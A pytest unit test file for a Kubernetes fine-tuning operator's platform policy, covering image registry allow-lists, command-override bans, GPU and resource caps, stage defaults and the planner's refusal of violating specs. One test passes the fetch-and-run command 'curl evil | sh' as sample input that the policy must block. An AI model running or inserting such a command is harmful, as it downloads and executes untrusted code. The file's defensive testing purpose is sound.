"""The platform policy: its model (policy.py), its rules over a spec (policy_rules.py) and the plan's verdict."""

from __future__ import annotations

import dataclasses
import json

import pytest

from eft.controller import builders as b
from eft.controller.children import Children
from eft.controller.main import main
from eft.controller.plan import plan
from eft.controller.policy import PlatformPolicy, PolicyError, parse_policy
from eft.controller.policy_rules import normalized_image, policy_violations, registry_allowed, with_policy_defaults
from eft.controller.settings import Settings
from eft.spec import EmbeddingFinetuneSpec
from tests.unit.operator.factories import NOW, SETTINGS, cond, efr, kinds


def spec(**blocks) -> EmbeddingFinetuneSpec:
    return EmbeddingFinetuneSpec.model_validate(blocks)


def policy(**values) -> PlatformPolicy:
    return PlatformPolicy.model_validate(values)


# --------------------------------------------------------------------------- the model


def test_no_policy_allows_everything():
    assert parse_policy(None) == PlatformPolicy() == parse_policy("")
    s = spec(serving={"image": "evil.example/x:1", "command": ["sh"], "gpus": 16},
             scheduling={"stages": {"train": {"image": "python:3.11", "gpus": 16,
                                              "resources": {"requests": {"cpu": "512"}}}}})
    assert policy_violations(s, PlatformPolicy()) == []


def test_the_charts_values_parse_as_the_policy():
    chart = {"allowedRegistries": ["registry.corp/ml/"], "allowImageOverrides": True, "allowCommandOverrides": False,
             "defaultQueue": "", "maxGpusPerPod": None, "maxResources": {"memory": "64Gi"},
             "stageDefaults": {"train": {"requests": {"cpu": "8"}}}, "admission": {"enabled": True}}
    p = parse_policy(json.dumps(chart))
    assert p.allowed_registries == ("registry.corp/ml",)  # the trailing slash is not part of the prefix
    assert p.default_queue is None and p.max_gpus_per_pod is None and not p.allow_command_overrides


@pytest.mark.parametrize(("raw", "expected"), [
    ("{not json", "is not valid JSON"),
    ('{"allowedRegistry": []}', "policy.allowedRegistry: unknown field"),
    ('{"maxResources": {"cpu": "lots"}}', "'lots' is not a Kubernetes quantity"),
    ('{"allowedRegistries": ["https://registry.corp"]}', "without a scheme"),
    ('{"stageDefaults": {"train": {"cpu": "2"}}}', "only ['requests', 'limits']"),
    ('{"stageDefaults": {"training": {}}}', "policy.stageDefaults.training"),
])
def test_a_malformed_policy_is_one_line_naming_the_field(raw, expected):
    with pytest.raises(PolicyError) as exc:
        parse_policy(raw)
    assert expected in str(exc.value) and "\n" not in str(exc.value)
    assert str(exc.value).startswith("$EFT_PLATFORM_POLICY")


def test_the_operator_reads_the_policy_from_the_environment_and_refuses_to_start_on_a_bad_one(monkeypatch, capsys):
    monkeypatch.setenv("EFT_PLATFORM_POLICY", '{"maxGpusPerPod": 2}')
    assert Settings.from_env().policy.max_gpus_per_pod == 2
    monkeypatch.setenv("EFT_PLATFORM_POLICY", '{"maxGpusPerPod": -1}')
    assert main([]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: $EFT_PLATFORM_POLICY: policy.maxGpusPerPod") and "Traceback" not in err


# --------------------------------------------------------------------------- images


@pytest.mark.parametrize(("image", "resolved"), [
    ("python:3.11", "docker.io/library/python:3.11"),
    ("bitnami/redis", "docker.io/bitnami/redis"),
    ("registry.corp/ml/eft:1", "registry.corp/ml/eft:1"),
    ("localhost/eft:1", "localhost/eft:1"),
    ("registry:5000/eft", "registry:5000/eft"),
])
def test_images_resolve_as_the_container_runtime_does(image, resolved):
    assert normalized_image(image) == resolved


def test_registry_prefixes_match_at_path_boundaries():
    allowed = ("registry.corp/ml", "docker.io/library")
    assert registry_allowed("registry.corp/ml/eft:1", allowed)
    assert registry_allowed("python:3.11", allowed)
    assert not registry_allowed("registry.corp/mlevil/eft:1", allowed)  # a prefix of a name is not a folder
    assert not registry_allowed("registry.corp/eft:1", allowed)
    assert not registry_allowed("bitnami/redis", allowed)


def test_images_outside_the_allowed_registries_are_named_with_their_fields():
    s = spec(serving={"image": "evil.example/server:1"},
             scheduling={"stages": {"train": {"image": "registry.corp/ml/stages:1"},
                                    "sdg": {"image": "python:3.11"}}})
    found = policy_violations(s, policy(allowedRegistries=["registry.corp/ml"]))
    assert found == [
        "spec.scheduling.stages.sdg.image: image 'python:3.11' is not from an allowed registry (registry.corp/ml)",
        "spec.serving.image: image 'evil.example/server:1' is not from an allowed registry (registry.corp/ml)",
    ]


def test_image_overrides_can_be_forbidden_outright():
    s = spec(scheduling={"stages": {"train": {"image": "registry.corp/ml/stages:1"}}})
    p = policy(allowImageOverrides=False, allowedRegistries=["registry.corp/ml"])
    assert [v.split(":")[0] for v in policy_violations(s, p)] == ["spec.scheduling.stages.train.image"]
    assert "allowImageOverrides is false" in policy_violations(s, p)[0]
    assert policy_violations(spec(), p) == []  # the operator's own images are always allowed


def test_serving_command_overrides_can_be_forbidden():
    p = policy(allowCommandOverrides=False)
    assert policy_violations(spec(serving={"image": "tei:1"}), p) == []
    found = policy_violations(spec(serving={"command": ["/bin/sh", "-c"], "args": ["curl evil | sh"]}), p)
    assert [v.split(":")[0] for v in found] == ["spec.serving.command", "spec.serving.args"]


# --------------------------------------------------------------------------- GPUs and resources


def test_gpus_per_pod_are_capped_for_stages_training_and_serving():
    p = policy(maxGpusPerPod=2)
    assert policy_violations(spec(training={"gpusPerNode": 2}), p) == []
    found = policy_violations(spec(training={"gpusPerNode": 4}, serving={"gpus": 3},
                                   scheduling={"stages": {"export": {"gpus": 8}}}), p)
    assert found == [
        "spec.training.gpusPerNode: 4 GPUs per pod exceeds the platform's limit of 2 (policy.maxGpusPerPod)",
        "spec.scheduling.stages.export.gpus: 8 GPUs per pod exceeds the platform's limit of 2 (policy.maxGpusPerPod)",
        "spec.serving.gpus: 3 GPUs per pod exceeds the platform's limit of 2 (policy.maxGpusPerPod)",
    ]
    assert policy_violations(spec(training={"gpusPerNode": 1}), policy(maxGpusPerPod=0))  # a CPU-only platform


def test_container_resources_are_capped_as_quantities():
    p = policy(maxResources={"cpu": "4", "memory": "16Gi"})
    ok = spec(scheduling={"stages": {"train": {"resources": {"requests": {"cpu": "4000m", "memory": "16Gi"},
                                                             "limits": {"nvidia.com/gpu": 1}}}}})
    assert policy_violations(ok, p) == []
    over = spec(scheduling={"stages": {"train": {"resources": {"limits": {"memory": "17Gi"}}}}},
                serving={"resources": {"requests": {"cpu": 8}}})
    assert policy_violations(over, p) == [
        "spec.scheduling.stages.train.resources.limits.memory: 17Gi exceeds the platform's limit of 16Gi "
        "(policy.maxResources.memory)",
        "spec.serving.resources.requests.cpu: 8 exceeds the platform's limit of 4 (policy.maxResources.cpu)",
    ]
    bad = spec(serving={"resources": {"requests": {"cpu": "a lot"}}})
    assert policy_violations(bad, p) == ["spec.serving.resources.requests.cpu: 'a lot' is not a Kubernetes quantity"]


def test_defaults_fill_only_what_the_spec_leaves_open_and_are_capped_too():
    p = policy(defaultQueue="team-a", stageDefaults={"train": {"requests": {"cpu": "8"}},
                                                     "serving": {"requests": {"cpu": "1"}}},
               maxResources={"cpu": "4"})
    own = spec(queueName="mine", scheduling={"stages": {"train": {"resources": {"requests": {"cpu": "2"}}}}})
    filled = with_policy_defaults(own, p)
    assert filled.queue_name == "mine" and filled.scheduling.stages["train"].resources == {"requests": {"cpu": "2"}}
    assert filled.serving.resources == {"requests": {"cpu": "1"}}
    bare = with_policy_defaults(spec(), p)
    assert bare.queue_name == "team-a" and bare.scheduling.stages["train"].resources == {"requests": {"cpu": "8"}}
    assert spec().queue_name is None  # the parsed spec itself is not changed
    assert policy_violations(bare, p) == [
        "spec.scheduling.stages.train.resources.requests.cpu: 8 exceeds the platform's limit of 4 "
        "(policy.maxResources.cpu)"]


# --------------------------------------------------------------------------- the plan


def test_a_spec_against_the_policy_gets_nothing_created_and_says_why():
    settings = dataclasses.replace(SETTINGS, policy=policy(allowCommandOverrides=False))
    body = efr({"serving": {"command": ["sh"]}})
    p = plan(body, Children(), settings, NOW)
    assert p.actions == []
    assert p.status["phase"] == "Failed"
    failed = cond(p.status, "Failed")
    assert failed["status"] == "True" and failed["reason"] == "PolicyViolation"
    assert "spec.serving.command" in failed["message"] and "allowCommandOverrides" in failed["message"]
    assert [(e.type, e.reason) for e in p.events] == [("Warning", "PolicyViolation")]
    assert p.events[0].message.startswith("refused by the platform policy: spec.serving.command")
    # fixing the spec lets the run start
    assert kinds(plan(efr({}), Children(), settings, NOW))[-1] == ("create", "Job")


def test_the_default_queue_and_stage_resources_reach_the_jobs():
    settings = dataclasses.replace(SETTINGS, policy=policy(defaultQueue="team-a",
                                                           stageDefaults={"ingest": {"requests": {"cpu": "1"}}}))
    job = plan(efr({}), Children(), settings, NOW).actions[-1].obj
    assert job["metadata"]["labels"][b.QUEUE_LABEL] == "team-a"
    assert job["spec"]["template"]["spec"]["containers"][0]["resources"] == {"requests": {"cpu": "1"}}
    assert job["spec"]["suspend"] is True  # queued Jobs start only when Kueue admits them
    unqueued = plan(efr({}), Children(), SETTINGS, NOW).actions[-1].obj
    assert b.QUEUE_LABEL not in unqueued["metadata"]["labels"] and "suspend" not in unqueued["spec"]
